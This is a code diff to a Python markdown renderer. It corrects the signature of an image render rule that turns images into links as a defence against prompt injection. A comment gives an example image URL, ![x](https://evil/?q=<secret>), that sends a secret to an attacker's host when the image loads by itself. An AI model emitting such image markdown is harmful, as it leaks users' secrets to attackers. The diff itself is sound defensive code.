@@ -46,7 +46,7 @@ def _highlight(code: str, lang: str, _attrs: object) -> str:
     return highlight(code, lexer, _formatter)
 
 
-def _render_image(tokens, idx, options, env) -> str:
+def _render_image(_renderer, tokens, idx, options, env) -> str:
     # Images are the exfiltration channel of prompt injection
     # (![x](https://evil/?q=<secret>) loads by itself); show a link instead,
     # which a person has to choose to follow.
@@ -58,7 +58,7 @@ def _render_image(tokens, idx, options, env) -> str:
 
 _md = MarkdownIt("commonmark", {"html": False, "linkify": False, "highlight": _highlight})
 _md.enable(["table", "strikethrough"])
-_md.add_render_rule("image", _render_image)
+_md.add_render_rule("image", _render_image)  # bound to the renderer: it gets `self` first
 
 
 def sanitize(html: str) -> str:
